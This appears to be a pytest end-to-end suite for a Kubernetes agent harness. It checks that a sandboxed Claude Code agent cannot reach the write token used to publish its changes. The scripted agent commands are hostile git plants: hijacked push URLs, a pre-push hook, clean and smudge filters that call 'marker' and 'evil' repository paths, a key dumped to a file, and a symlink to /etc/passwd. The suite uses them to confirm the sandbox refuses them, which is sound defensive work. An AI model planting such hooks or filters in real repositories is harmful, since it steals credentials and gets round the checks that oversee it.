"""A run's change published from the cluster: the real Claude Code edits its workspace (the Anthropic
stub's bash mode hands it the command), the attempt pod's publishing container pushes the run's branch
to a git server that demands a write token and opens the pull request on the forge stub; the agent's
container never holds that token and what it plants in `.git` is never used. The forge is a stub because no
real GitHub or GitLab can run here (the publisher meets a real Gitea in tests/forge).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client
from tests.servers.git_http import GitHttpServer
from tests.stubs.anthropic import AnthropicStub
from tests.stubs.github import GitHubStub

from harness_operator.api.v1alpha1 import GROUP

from .conftest import STUB_HOST, Runs, wait_until
from .test_agents import FAKE_KEY, REPO, ROUTES, agent_run

WRITE_TOKEN = "ghp_e2e-publisher-write-token-42"
OWNER_REPO = "acme/widgets"


@pytest.fixture
def git_server(tmp_path: Path) -> Iterator[GitHttpServer]:
    with GitHttpServer(tmp_path / "git", host=STUB_HOST, token=WRITE_TOKEN) as server:
        yield server


@pytest.fixture
def forge() -> Iterator[GitHubStub]:
    with GitHubStub(host=STUB_HOST, web_url="https://forge.example") as stub:
        yield stub


class Publishing:
    """Runs that clone the git server's repository, run one bash command through Claude Code, and
    publish to the server and the forge."""

    def __init__(self, runs: Runs, server: GitHttpServer, forge: GitHubStub) -> None:
        self.runs, self.server, self.forge = runs, server, forge
        self.url = server.create_repo(OWNER_REPO, {"README.md": "hello\n"})
        self.stubs: list[AnthropicStub] = []
        runs.secret("forge-write-token", "token", WRITE_TOKEN)

    def create(
        self,
        name: str,
        command: str,
        url: str | None = None,
        publish: dict[str, Any] | None = None,
        **workspace: Any,
    ) -> AnthropicStub:
        model = AnthropicStub(mode="bash", host=STUB_HOST, command=command).start()
        self.stubs.append(model)
        spec = agent_run(self.runs, "claude", ROUTES["claude"](model.base_url), model.port)
        spec["with"] = {"permission-mode": "bypassPermissions"}  # the sandbox user is not root
        spec["workspace"] = {
            "workingDir": REPO,
            "git": {"url": url or self.url, "ref": "main"},
            "publish": publish
            or {
                "credentialsSecretRef": {"name": "forge-write-token", "key": "token"},
                "pullRequest": {"forge": "github", "apiURL": self.forge.base_url, "repository": OWNER_REPO},
            },
            **workspace,
        }
        for port in (self.server.port, self.forge.port):
            spec["sandbox"]["egress"].append({"cidr": f"{STUB_HOST}/32", "ports": [port]})
        self.runs.create(name, spec)
        return model

    def describe(self, name: str) -> str:
        """The run as Runs.describe tells it, and its publisher's log (what it said it did)."""
        lines = [self.runs.describe(name)]
        for pod in self.runs.core.list_namespaced_pod(
            self.runs.ns, label_selector=f"{GROUP}/run={name}"
        ).items:
            try:
                log = self.runs.core.read_namespaced_pod_log(
                    pod.metadata.name, self.runs.ns, container="publish"
                )
            except client.ApiException as exc:
                log = f"unavailable: {exc.reason}"
            lines.append(f"publisher of {pod.metadata.name}: {log[-3000:]}")
        return "\n".join(lines)

    def stop(self) -> None:
        for stub in self.stubs:
            stub.stop()


@pytest.fixture
def publishing(runs: Runs, git_server: GitHttpServer, forge: GitHubStub) -> Iterator[Publishing]:
    env = Publishing(runs, git_server, forge)
    yield env
    env.stop()


def base_url(server: GitHttpServer, path: str) -> str:
    return f"{server.base_url}/git/{path}"


def test_the_change_is_published_by_a_container_the_agent_cannot_reach(
    publishing: Publishing, runs: Runs, kube: client.ApiClient
) -> None:
    server = publishing.server
    evil, marker = base_url(server, "evil/widgets.git"), base_url(server, "marker/hook.git")
    # The agent edits, records the names in its environment, tries to push by itself (it has no token),
    # then plants a push URL, a URL rewrite and a hook for whoever pushes after it.
    command = " && ".join(
        [
            "printf 'hello, world\\n' > README.md",
            "env | cut -d= -f1 | sort > agent-env-names.txt",
            f"(GIT_TERMINAL_PROMPT=0 git push {publishing.url} HEAD:refs/heads/agent-own 2>&1 || true)"
            " | tail -n 1 > agent-push.txt",
            f"git config remote.origin.pushurl {evil}",
            f"git config url.{base_url(server, 'evil/')}.insteadOf {base_url(server, 'acme/')}",
            f"printf '#!/bin/sh\\ngit ls-remote {marker}\\n' > .git/hooks/pre-push",
            "chmod +x .git/hooks/pre-push",
        ]
    )
    publishing.create("edit", command)

    status = runs.wait_finished("edit")

    assert status["phase"] == "Succeeded" and "changes" in status, publishing.describe("edit")
    changes = status["changes"]
    assert changes["branch"] == "harness/edit" and changes["files"] == 3, changes
    assert server.branches(OWNER_REPO)["harness/edit"] == changes["commit"]
    assert server.read(OWNER_REPO, "harness/edit", "README.md") == b"hello, world\n"
    names = server.read(OWNER_REPO, "harness/edit", "agent-env-names.txt").decode().split()
    assert "ANTHROPIC_API_KEY" in names  # the file is the agent's environment, and it lacks:
    assert "HARNESS_PUBLISH_TOKEN" not in names and "GIT_TOKEN" not in names
    said = server.read(OWNER_REPO, "harness/edit", "agent-push.txt")
    assert b"fatal" in said or b"error" in said, said  # its own push failed: no credential to push with
    # Only the run's branch was pushed, by the publisher; nothing reached the planted URLs.
    assert server.refs_pushed() == ["refs/heads/harness/edit"]
    paths = [r["path"] for r in server.requests()]
    assert not [p for p in paths if "/evil/" in p or "/marker/" in p], paths
    agent_pushes = [r for r in server.requests() if r["user"] == "-" and "receive-pack" in r["path"]]
    assert agent_pushes and all(r["status"] == 401 for r in agent_pushes), agent_pushes
    # The pull request, opened with the write token, links from status.
    [opened] = publishing.forge.pull_requests()
    assert opened["token_sha256"] == hashlib.sha256(WRITE_TOKEN.encode()).hexdigest()
    assert (opened["body"]["head"], opened["body"]["base"]) == ("harness/edit", "main")
    assert changes["pullRequestURL"] == f"https://forge.example/{OWNER_REPO}/pull/1"
    # The patch is readable beside the output; the token reached neither status nor the agent's pod spec.
    patch = runs.core.read_namespaced_config_map(changes["patchConfigMapName"], runs.ns).data["changes.patch"]
    assert "+hello, world" in patch
    assert hashlib.sha256(patch.encode()).hexdigest() == changes["patchSHA256"]
    pod = runs.core.read_namespaced_pod(status["attempts"][0]["podName"], runs.ns)
    agent = next(c for c in pod.spec.containers if c.name == "runner")
    assert not [e for e in agent.env or [] if e.value_from and e.value_from.secret_key_ref
                and e.value_from.secret_key_ref.name == "forge-write-token"]  # fmt: skip
    [publisher] = [s for s in pod.status.init_container_statuses if s.name == "publish"]
    assert publisher.state.terminated is not None, publisher  # the kubelet ended it after the agent
    assert WRITE_TOKEN not in str(status) and FAKE_KEY not in str(status)


def test_a_change_holding_a_credential_is_refused_and_a_later_run_starts_from_a_result(
    publishing: Publishing, runs: Runs
) -> None:
    publishing.create("leak", 'printf "key=%s\\n" "$ANTHROPIC_API_KEY" > leaked.txt')
    publishing.create("first", "printf 'hello, world\\n' > README.md")

    leaked = runs.wait_finished("leak")
    assert leaked["phase"] == "Failed" and leaked["reason"] == "ChangeHoldsCredential", leaked
    assert "leaked.txt" in leaked["message"] and "ANTHROPIC_API_KEY" in leaked["message"]
    assert FAKE_KEY not in str(leaked)
    assert "harness/leak" not in publishing.server.branches(OWNER_REPO)

    first = runs.wait_finished("first")
    assert first["phase"] == "Succeeded" and "changes" in first, publishing.describe("first")
    publishing.create("second", "printf 'and more\\n' >> README.md", **{"from": {"run": "first"}})
    second = runs.wait_finished("second")

    assert second["phase"] == "Succeeded" and "changes" in second, publishing.describe("second")
    assert second["changes"]["base"] == first["changes"]["base"]
    readme = publishing.server.read(OWNER_REPO, "harness/second", "README.md")
    assert readme == b"hello, world\nand more\n"  # the first run's change, then the second's


def test_nothing_the_agent_planted_runs_where_the_write_token_is(publishing: Publishing, runs: Runs) -> None:
    """Issue 49's critical attack replayed: the cloned commit records a submodule, and the agent makes its
    folder a repository whose config runs a clean filter (which, run by the publisher's `git add`, had
    the write token and git's credential helper). The change is refused and the filter never runs. Two
    more: a change published onto `main` (the branch exists: refused, `main` unmoved), and the publish
    policy (issue 52): a workflow file the chart's default refuses, a path the namespace's annotation
    and one the run's own rule protects, a link out of the tree."""
    server = publishing.server
    marker = base_url(server, "marker/filter.git")
    sub_url = server.create_repo("acme/sub", {"payload.txt": "committed\n"})
    gitmodules = f'[submodule "sub"]\n\tpath = sub\n\turl = {sub_url}\n'
    with_sub = server.create_repo("acme/with-sub", {"README.md": "hello\n", ".gitmodules": gitmodules},
                                  submodules={"sub": server.branches("acme/sub")["main"]})  # fmt: skip
    # As `git submodule update` would, then a filter in its config and a file changed at its size (so git
    # must hash it through the filter to see whether it changed).
    plant = " && ".join(
        [
            "printf 'hello, world\\n' > README.md",
            f"rmdir sub && git clone -q {sub_url} sub",
            f"printf '#!/bin/sh\\ngit ls-remote {marker} >/dev/null 2>&1\\ncat\\n' > sub/.git/f.sh",
            "git -C sub config filter.x.clean 'sh .git/f.sh'",
            "printf '* filter=x\\n' > sub/.gitattributes",
            "printf 'COMMITTED\\n' > sub/payload.txt",
        ]
    )
    publishing.create("planted", plant, url=with_sub)
    secret = {"credentialsSecretRef": {"name": "forge-write-token", "key": "token"}}
    onto_main = {**secret, "branch": {"name": "main"}}
    publishing.create("onto-main", "printf 'onto main\\n' > README.md", publish=onto_main)
    ci = "mkdir -p .github/workflows && printf 'on: push\\n' > .github/workflows/x.yml"
    publishing.create("ci", ci, publish={**secret, "branch": {}})
    annotation = json.dumps([{"path": "infra/", "action": "Refuse"}])
    body = {"metadata": {"annotations": {"agentharness.dev/protected-paths": annotation}}}
    runs.core.patch_namespace(runs.ns, body)
    publishing.create(
        "ns-rule", "mkdir -p infra && printf 'x\n' > infra/main.tf", publish={**secret, "branch": {}}
    )
    own = {**secret, "branch": {}, "protectedPaths": [{"path": "*.lock"}]}
    publishing.create("run-rule", "printf 'pinned\n' > deps.lock", publish=own)
    publishing.create("link", "ln -s /etc/passwd passwd", publish={**secret, "branch": {}})
    main = server.branches(OWNER_REPO)["main"]

    planted = runs.wait_finished("planted")
    assert planted["reason"] == "ChangeTouchesSubmodule", publishing.describe("planted")
    assert "sub" in planted["message"]
    assert not [r["path"] for r in server.requests() if "/marker/" in r["path"]]
    assert "harness/planted" not in server.branches("acme/with-sub")
    pushed = runs.wait_finished("onto-main")
    assert pushed["reason"] == "PushRejected", publishing.describe("onto-main")
    assert "branch main exists" in pushed["message"]
    assert server.branches(OWNER_REPO)["main"] == main
    refused = runs.wait_finished("ci")
    assert refused["reason"] == "ChangeTouchesProtectedPath", publishing.describe("ci")
    assert '.github/workflows/x.yml, protected by the rule ".github/"' in refused["message"]
    for name, path in (("ns-rule", "infra/main.tf"), ("run-rule", "deps.lock")):
        protected = runs.wait_finished(name)
        assert protected["reason"] == "ChangeTouchesProtectedPath", publishing.describe(name)
        assert path in protected["message"]
    linked = runs.wait_finished("link")
    assert linked["reason"] == "ChangeLinksOutOfTree", publishing.describe("link")
    assert "passwd a link to /etc/passwd" in linked["message"]
    for name in ("ci", "ns-rule", "run-rule", "link"):
        assert f"harness/{name}" not in server.branches(OWNER_REPO)
    assert server.refs_pushed() == []


def test_a_workspace_the_last_agent_left_runs_nothing_with_the_next_runs_token(
    publishing: Publishing, runs: Runs, tmp_path: Path
) -> None:
    """Issue 49, item 2, replayed on a claim two runs share: the first agent breaks the repository's
    `.git` (no HEAD) and makes the claim's root a repository whose config and info/attributes run a
    smudge filter. The old clone let git discover that repository, so the next run's checkout ran the
    filter with its own read token; now the clone makes `.git` anew and never discovers one."""
    server = publishing.server
    marker = base_url(server, "marker/smudge.git")
    folder = tmp_path / "claim"
    folder.mkdir()
    os.chown(folder, 65532, 65532)  # a hostPath volume the sandbox user owns, as a provisioned claim's root
    name = f"shared-{runs.ns}"
    runs.core.create_persistent_volume(
        client.V1PersistentVolume(
            metadata=client.V1ObjectMeta(name=name),
            spec=client.V1PersistentVolumeSpec(
                capacity={"storage": "1Gi"},
                access_modes=["ReadWriteOnce"],
                storage_class_name="",
                host_path=client.V1HostPathVolumeSource(path=str(folder), type="Directory"),
                persistent_volume_reclaim_policy="Retain",
            ),
        )
    )
    try:
        claim = client.V1PersistentVolumeClaim(
            metadata=client.V1ObjectMeta(name="shared"),
            spec=client.V1PersistentVolumeClaimSpec(
                access_modes=["ReadWriteOnce"],
                storage_class_name="",
                volume_name=name,
                resources=client.V1VolumeResourceRequirements(requests={"storage": "1Gi"}),
            ),
        )
        runs.core.create_namespaced_persistent_volume_claim(runs.ns, claim)
        smudge = f'sh -c "git ls-remote {marker} >/dev/null 2>&1; cat"'
        plant = " && ".join(
            [
                "git -C /workspace init -q",
                f"git -C /workspace config filter.x.smudge '{smudge}'",
                "mkdir -p /workspace/.git/info && printf '* filter=x\\n' > /workspace/.git/info/attributes",
                "rm .git/HEAD",
            ]
        )
        volume = {"persistentVolumeClaim": {"claimName": "shared"}}
        token = {"name": "forge-write-token", "key": "token"}
        for run, command in (("leaves", plant), ("next", "true")):
            model = AnthropicStub(mode="bash", host=STUB_HOST, command=command).start()
            publishing.stubs.append(model)
            spec = agent_run(runs, "claude", ROUTES["claude"](model.base_url), model.port)
            spec["with"] = {"permission-mode": "bypassPermissions"}
            git = {
                "url": publishing.url,
                "ref": "main",
                **({"credentialsSecretRef": token} if run == "next" else {}),
            }
            spec["workspace"] = {"workingDir": REPO, "git": git, "volume": volume}
            spec["sandbox"]["egress"].append({"cidr": f"{STUB_HOST}/32", "ports": [server.port]})
            runs.create(run, spec)
            status = runs.wait_finished(run)
            assert status["phase"] == "Succeeded", publishing.describe(run)
        assert (folder / ".git" / "info" / "attributes").exists()  # the plant was there for the next clone
        assert not (folder / "repo" / ".git" / "commondir").exists()
        assert (folder / "repo" / ".git" / "HEAD").exists()  # made anew
        assert not [r["path"] for r in server.requests() if "/marker/" in r["path"]]
    finally:
        runs.core.delete_namespaced_persistent_volume_claim("shared", runs.ns)
        runs.core.delete_persistent_volume(name)


def cloned(runs: Runs, name: str) -> bool:
    """Whether the run's pod has cloned its workspace (its git-clone init container ended well)."""
    pods = runs.core.list_namespaced_pod(runs.ns, label_selector=f"{GROUP}/run={name}").items
    return any(
        s.name == "git-clone" and s.state.terminated is not None and s.state.terminated.exit_code == 0
        for pod in pods
        for s in pod.status.init_container_statuses or []
    )


def follow_up_publish(publishing: Publishing, branch: str) -> dict[str, Any]:
    """A follow-up's workspace: the pull request's branch cloned, one commit pushed onto it."""
    return {
        "git": {"url": publishing.url, "ref": branch},
        "publish": {
            "branch": {"name": branch, "ifExists": "FastForward"},
            "credentialsSecretRef": {"name": "forge-write-token", "key": "token"},
            "pullRequest": {"forge": "github", "apiURL": publishing.forge.base_url, "repository": OWNER_REPO},
        },
    }


def test_a_follow_up_pushes_a_second_commit_onto_the_open_pull_request(
    publishing: Publishing, runs: Runs
) -> None:
    server, forge = publishing.server, publishing.forge
    publishing.create("first", "printf 'def greet(): pass\\n' > README.md")
    first = runs.wait_finished("first")
    assert first["phase"] == "Succeeded", publishing.describe("first")
    assert first["changes"]["pullRequestNumber"] == 1, first["changes"]

    publishing.create(
        "again",
        "printf 'def welcome(): pass\\n' > README.md",
        **follow_up_publish(publishing, "harness/first"),
    )
    again = runs.wait_finished("again")

    assert again["phase"] == "Succeeded", publishing.describe("again")
    changes = again["changes"]
    assert changes["base"] == first["changes"]["commit"] and changes["branch"] == "harness/first"
    assert (changes["pullRequestURL"], changes["pullRequestNumber"]) == (
        first["changes"]["pullRequestURL"],
        1,
    )
    assert server.branches(OWNER_REPO)["harness/first"] == changes["commit"]
    assert server.read(OWNER_REPO, "harness/first", "README.md") == b"def welcome(): pass\n"
    assert [(p["ref"], p["old"]) for p in server.pushes()] == [
        ("refs/heads/harness/first", "0" * 40),
        ("refs/heads/harness/first", first["changes"]["commit"]),  # a fast-forward of the first run's
    ]
    assert len(forge.pull_requests()) == 1  # found open, not opened twice
    assert [listed["found"] for listed in forge.listings()] == [[1]]


def test_a_follow_up_whose_branch_moved_meanwhile_fails_branch_moved(
    publishing: Publishing, runs: Runs, tmp_path: Path
) -> None:
    server = publishing.server
    publishing.create("first", "printf 'def greet(): pass\\n' > README.md")
    first = runs.wait_finished("first")
    assert first["phase"] == "Succeeded", publishing.describe("first")
    # The agent works a while; once its pod runs (the clone is done), a reviewer pushes to the branch.
    publishing.create(
        "late",
        "sleep 20 && printf 'def welcome(): pass\\n' > README.md",
        **follow_up_publish(publishing, "harness/first"),
    )
    wait_until(lambda: cloned(runs, "late"), 120, "the follow-up's clone to finish")
    reviewer = tmp_path / "reviewer"
    git_env = {
        **os.environ,
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_TERMINAL_PROMPT": "0",
    }
    identity = ["-c", "user.name=reviewer", "-c", "user.email=reviewer@example.invalid"]
    for argv in (
        ["clone", "-q", "--branch", "harness/first", server.push_url_for(OWNER_REPO), str(reviewer)],
        ["-C", str(reviewer), "commit", "-q", "--allow-empty", "-m", "the reviewer's own commit"],
        ["-C", str(reviewer), "push", "-q", "origin", "HEAD:refs/heads/harness/first"],
    ):
        subprocess.run(["git", *identity, *argv], env=git_env, check=True, capture_output=True)
    theirs = server.branches(OWNER_REPO)["harness/first"]
    assert theirs != first["changes"]["commit"]

    late = runs.wait_finished("late")

    assert (late["phase"], late["reason"]) == ("Failed", "BranchMoved"), publishing.describe("late")
    assert first["changes"]["commit"] in late["message"] and theirs in late["message"]
    assert server.branches(OWNER_REPO)["harness/first"] == theirs  # never forced
    assert late["changes"]["patchSHA256"]  # the change is kept as a patch
